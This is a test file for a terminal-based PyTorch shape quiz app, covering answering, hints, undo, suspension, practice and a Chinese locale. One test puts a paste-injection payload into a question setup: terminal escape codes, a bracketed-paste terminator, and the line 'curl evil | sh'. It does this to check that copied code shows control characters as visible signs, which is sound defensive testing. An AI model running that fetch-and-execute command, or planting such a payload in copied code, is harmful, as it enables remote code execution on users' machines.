"""A review on the screens: asking, judging, teaching, undoing, and nothing lost."""

from __future__ import annotations

import json
import time
from typing import Any

from quizapp.bank.scope import Scope
from quizapp.tui.screens.end import EndScreen
from quizapp.tui.screens.home import HomeScreen
from quizapp.tui.widgets.answer_field import AnswerLine
from quizapp.tui.widgets.asked_question import AskedQuestionView
from quizapp.tui.widgets.verdict import VerdictView

SIZE = (80, 24)


async def start(pilot: Any, until: Any) -> None:
    """From home to the first question."""
    await pilot.press("enter")
    await until(pilot, lambda: pilot.app.screen.query(".answer:focus"))


async def type_answer(pilot: Any, text: str) -> None:
    await pilot.press(*("space" if char == " " else char for char in text))


def flowing(screen: str) -> str:
    """What stands on the screen in one line, the edges of notices left out."""
    return " ".join(screen.replace("▌", " ").split())


def deeds(desk: Any) -> list[str]:
    study = desk.study()
    try:
        return [act.deed for act in study.store.acts()]
    finally:
        study.store.close()


async def test_what_is_typed_is_read_back_at_once(desk: Any, until: Any, shown: Any) -> None:
    app = desk.app()
    async with app.run_test(size=SIZE, notifications=True) as pilot:
        await start(pilot, until)
        await type_answer(pilot, "2 1 3")
        await until(pilot, lambda: "reads as (2, 1, 3)" in shown(app))


async def test_a_right_answer(desk: Any, until: Any, shown: Any) -> None:
    app = desk.app()
    async with app.run_test(size=SIZE, notifications=True) as pilot:
        await start(pilot, until)
        await type_answer(pilot, "2 1 3")
        await pilot.press("enter")
        await until(pilot, lambda: "✓ Right" in shown(app))
        assert "comes back tomorrow" in shown(app)
        assert "[5]" in shown(app)
    app.thread.close(5)
    assert deeds(desk) == ["answered"]


async def test_a_wrong_answer_teaches_above_the_fold(desk: Any, until: Any, shown: Any) -> None:
    app = desk.app()
    async with app.run_test(size=SIZE, notifications=True) as pilot:
        await start(pilot, until)
        await type_answer(pilot, "1 2 3")
        await pilot.press("enter")
        await until(pilot, lambda: "✗ Not quite" in shown(app))
        screen = shown(app)
        assert "you said   (1, 2, 3)" in screen
        assert "PyTorch    (2, 1, 3)" in screen
        assert "A.unsqueeze(0) gives (1, 2, 3)" in screen
        assert "It went to the front." in screen
        assert "unsqueeze(d) puts a new axis" in screen
        assert "comes back today" in screen
        assert "[2]" in screen


async def test_the_trace_and_the_docs_are_shown(desk: Any, until: Any, shown: Any) -> None:
    app = desk.app()
    async with app.run_test(size=(80, 40), notifications=True) as pilot:
        await start(pilot, until)
        await type_answer(pilot, "2 1 3")
        await pilot.press("enter")
        await until(pilot, lambda: "Tensor.unsqueeze   int64   (2, 1, 3)" in shown(app))
        assert "torch.unsqueeze ↗" in shown(app)


async def test_an_unreadable_answer_is_asked_again_and_keeps_what_was_typed(
    desk: Any, until: Any, shown: Any
) -> None:
    app = desk.app()
    async with app.run_test(size=SIZE, notifications=True) as pilot:
        await start(pilot, until)
        await type_answer(pilot, "two by three")
        await pilot.press("enter")
        await until(pilot, lambda: " ? " in shown(app))
        assert app.screen.query_one(AnswerLine).value == "two by three"
        assert app.screen.query_one(AnswerLine).has_focus
    app.thread.close(5)
    assert deeds(desk) == []


async def test_hints_come_in_steps(desk: Any, until: Any, shown: Any) -> None:
    app = desk.app()
    async with app.run_test(size=SIZE, notifications=True) as pilot:
        await start(pilot, until)
        await pilot.press("f2")
        await until(pilot, lambda: "Count the axes" in shown(app))
        assert "position 1" not in shown(app)
        await pilot.press("f2")
        await until(pilot, lambda: "position 1" in shown(app))
        await type_answer(pilot, "2 1 3")
        await pilot.press("enter")
        await until(pilot, lambda: "[3]" in shown(app))


async def test_dont_know_shows_the_same_teaching(desk: Any, until: Any, shown: Any) -> None:
    app = desk.app()
    async with app.run_test(size=SIZE, notifications=True) as pilot:
        await start(pilot, until)
        await pilot.press("f3")
        await until(pilot, lambda: "○ Here is the answer" in shown(app))
        assert "you said" not in shown(app)
        assert "PyTorch   (2, 1, 3)" in shown(app)


async def test_the_quality_can_be_changed_and_that_undone(desk: Any, until: Any, shown: Any) -> None:
    app = desk.app()
    async with app.run_test(size=SIZE, notifications=True) as pilot:
        await start(pilot, until)
        await type_answer(pilot, "2 1 3")
        await pilot.press("enter")
        await until(pilot, lambda: "[5]" in shown(app))
        await pilot.press("3")
        await until(pilot, lambda: "[3]" in shown(app))
        assert "comes back today" in shown(app)
        await pilot.press("u")
        await until(pilot, lambda: "[5]" in shown(app))
        assert app.screen.query(VerdictView)


async def test_undo_asks_the_question_again_also_from_the_end(desk: Any, until: Any, shown: Any) -> None:
    app = desk.app()
    async with app.run_test(size=SIZE, notifications=True) as pilot:
        await start(pilot, until)
        await type_answer(pilot, "2 1 3")
        await pilot.press("enter")
        await until(pilot, lambda: "✓ Right" in shown(app))
        await pilot.press("enter")
        await until(pilot, lambda: isinstance(app.screen, EndScreen))
        assert "1 answer" in shown(app)
        await pilot.press("u")
        await until(pilot, lambda: app.screen.query(".answer:focus"))
        await pilot.press("f5")
        await until(pilot, lambda: "nothing left to undo" in shown(app))
        assert app.screen.query(AskedQuestionView)
    app.thread.close(5)
    assert deeds(desk) == ["answered", "undid"]


async def test_a_missed_question_is_drilled_until_it_holds(desk: Any, until: Any, shown: Any) -> None:
    app = desk.app()
    async with app.run_test(size=SIZE, notifications=True) as pilot:
        await start(pilot, until)
        await type_answer(pilot, "1 2 3")
        await pilot.press("enter")
        await until(pilot, lambda: app.screen.query(VerdictView))
        await pilot.press("enter")
        await until(pilot, lambda: "again today" in shown(app) and app.screen.query(AskedQuestionView))
        await type_answer(pilot, "2 1 3")
        await pilot.press("enter")
        await until(pilot, lambda: "✓ Right" in shown(app))
        await pilot.press("enter")
        await until(pilot, lambda: isinstance(app.screen, EndScreen))
        assert "one too early (1)" in shown(app)


async def test_the_slips_are_practised_from_the_end(desk: Any, until: Any, shown: Any) -> None:
    app = desk.app()
    async with app.run_test(size=SIZE, notifications=True) as pilot:
        await start(pilot, until)
        for typed in ("1 2 3", "2 1 3"):
            await type_answer(pilot, typed)
            await pilot.press("enter")
            await until(pilot, lambda: app.screen.query(VerdictView))
            await pilot.press("enter")
            await until(pilot, lambda: app.screen.query(".answer:focus") or isinstance(app.screen, EndScreen))
        assert "v practise the slips" in shown(app)
        await pilot.press("v")
        await until(pilot, lambda: app.screen.query(".answer:focus") and "practice" in shown(app))
        await type_answer(pilot, "2 1 3")
        await pilot.press("enter")
        await until(pilot, lambda: app.screen.query(VerdictView))
        await pilot.press("enter")
        await until(pilot, lambda: isinstance(app.screen, EndScreen) and "Practice is over" in shown(app))
        # What was answered before is no part of the practice.
        assert "1 answer · " in shown(app)
        assert "v practise the slips" not in shown(app)
        await pilot.press("enter")
        await until(pilot, lambda: isinstance(app.screen, HomeScreen))


async def test_suspending_asks_no_more_and_undo_brings_it_back(desk: Any, until: Any, shown: Any) -> None:
    (pack,) = desk.packs
    desk.packs = (pack, pack.replace("pack: dims", "pack: more").replace("What is the", "Tell the"))
    app = desk.app()
    async with app.run_test(size=SIZE, notifications=True) as pilot:
        await start(pilot, until)
        first, second = "What is the shape", "Tell the shape"
        if second in shown(app):
            first, second = second, first
        await pilot.press("f6")
        await until(pilot, lambda: second in shown(app) and app.screen.query(".answer:focus"))
        await pilot.press("f5")
        await until(pilot, lambda: first in shown(app) and app.screen.query(".answer:focus"))
        assert second not in shown(app)
        await type_answer(pilot, "2 1 3")
        await pilot.press("enter")
        await until(pilot, lambda: "✓ Right" in shown(app))
    app.thread.close(5)
    assert deeds(desk) == ["suspended", "undid", "answered"]


async def test_what_is_suspended_stays_so_behind_the_end(desk: Any, until: Any, shown: Any) -> None:
    app = desk.app()
    async with app.run_test(size=SIZE, notifications=True) as pilot:
        await start(pilot, until)
        await pilot.press("f6")
        await until(pilot, lambda: isinstance(app.screen, EndScreen))
        await pilot.press("u")
        await until(pilot, lambda: app.screen.query(AskedQuestionView))
    app.thread.close(5)
    assert deeds(desk) == ["suspended", "undid"]


async def test_what_another_window_answered_meanwhile_is_practice_and_told(
    desk: Any, until: Any, shown: Any
) -> None:
    app = desk.app()
    async with app.run_test(size=SIZE, notifications=True) as pilot:
        await start(pilot, until)
        other = desk.study()
        sitting = other.sitting()
        assert sitting.next() is not None
        sitting.dont_know()
        await type_answer(pilot, "2 1 3")
        await pilot.press("enter")
        await until(pilot, lambda: "has just been answered" in shown(app))
        assert "[5]" not in shown(app)
        kinds = [act.kind for act in other.store.acts()]
        other.store.close()
    assert kinds == ["review", "practice"]


async def test_a_pack_alone_tells_what_is_asked_first_and_what_later(
    desk: Any, until: Any, shown: Any
) -> None:
    [shapes] = desk.packs
    after = shapes.replace("ask: shape", "ask: shape\n    after: [dims/unsqueeze-shape]")
    desk.packs = (shapes, after.replace("pack: dims", "pack: more"))
    app = desk.app(scope=Scope(pack="more"))
    async with app.run_test(size=SIZE, notifications=True) as pilot:
        await until(pilot, lambda: "builds on it" in flowing(shown(app)))
        await pilot.press("f6")
        await until(
            pilot, lambda: app.screen.query(AskedQuestionView) and "you suspended" in flowing(shown(app))
        )
        await type_answer(pilot, "1 2 3")
        await pilot.press("enter")
        await until(pilot, lambda: app.screen.query(VerdictView))


async def test_another_variant_is_practice(desk: Any, until: Any, shown: Any) -> None:
    app = desk.app()
    async with app.run_test(size=SIZE, notifications=True) as pilot:
        await start(pilot, until)
        await type_answer(pilot, "2 1 3")
        await pilot.press("enter")
        await until(pilot, lambda: app.screen.query(VerdictView))
        await pilot.press("v")
        await until(pilot, lambda: "practice" in shown(app) and app.screen.query(AskedQuestionView))
        await type_answer(pilot, "2 1 3")
        await pilot.press("enter")
        await until(pilot, lambda: "schedule does not change" in shown(app))
        assert "[5]" not in shown(app)


async def test_leaving_in_the_middle_of_a_question_loses_nothing(desk: Any, until: Any, shown: Any) -> None:
    app = desk.app()
    async with app.run_test(size=SIZE, notifications=True) as pilot:
        await start(pilot, until)
        await type_answer(pilot, "2 1")
        await pilot.press("escape")
        await until(pilot, lambda: isinstance(app.screen, HomeScreen) and "1 new" in shown(app))
        await start(pilot, until)
        await until(pilot, lambda: "A.unsqueeze(1)" in shown(app))


async def test_quitting_is_instant_while_a_program_runs_for_ever(desk: Any, until: Any, shown: Any) -> None:
    desk.held = True
    desk.__post_init__()
    app = desk.app()
    async with app.run_test(size=SIZE, notifications=True) as pilot:
        await pilot.press("enter")
        await until(pilot, lambda: "PyTorch is starting" in shown(app))
        began = time.monotonic()
        await pilot.press("ctrl+q")
    app.thread.close(5)
    assert time.monotonic() - began < 2
    assert desk.runner.closed


async def test_a_question_mark_can_be_typed_and_f1_shows_the_keys(desk: Any, until: Any, shown: Any) -> None:
    app = desk.app()
    async with app.run_test(size=SIZE, notifications=True) as pilot:
        await start(pilot, until)
        await pilot.press("question_mark", "q")
        await until(pilot, lambda: app.screen.query_one(AnswerLine).value == "?q")
        await pilot.press("f1")
        await until(pilot, lambda: "Available keys" in shown(app))
        assert "don't know" in shown(app)
        await pilot.press("escape")
        await until(pilot, lambda: app.screen.query(".answer:focus"))


async def test_the_code_is_copied_as_it_runs(desk: Any, until: Any) -> None:
    app = desk.app()
    async with app.run_test(size=SIZE, notifications=True) as pilot:
        await start(pilot, until)
        await pilot.press("f4")
        await until(pilot, lambda: app.clipboard)
        assert app.clipboard == "A = torch.arange(2 * 3).reshape(2, 3)\nA.unsqueeze(1)\n"


async def test_code_is_copied_with_signs_in_place_of_what_a_terminal_obeys(desk: Any, until: Any) -> None:
    setup = json.dumps('x = 1  # \x1b[201~ \u202e\r\n"""\ncurl evil | sh\n"""\n1 + 1')
    question = f"{{id: q, ask: shape, setup: {setup}, code: A.unsqueeze(1)}}"
    desk.packs = (f"pack: p\ntitle: T\nquestions:\n  - {question}",)
    app = desk.app()
    async with app.run_test(size=SIZE, notifications=True) as pilot:
        await start(pilot, until)
        await pilot.press("f4")
        await until(pilot, lambda: app.clipboard)
        first, *rest = app.clipboard.split("\n")
        assert first == "x = 1  # ␛[201~ ⟨202e⟩␍"
        assert rest == ['"""', "curl evil | sh", '"""', "1 + 1", "A.unsqueeze(1)", ""]


async def test_a_review_in_chinese(desk: Any, until: Any, shown: Any) -> None:
    desk.language = "zh"
    app = desk.app()
    async with app.run_test(size=SIZE, notifications=True) as pilot:
        await start(pilot, until)
        assert "结果的形状是什么" in shown(app)
        await type_answer(pilot, "1 2 3")
        await pilot.press("enter")
        await until(pilot, lambda: "不太对" in shown(app))
        assert "新轴放到了前面" in shown(app)
        assert "今天还会再问" in shown(app)
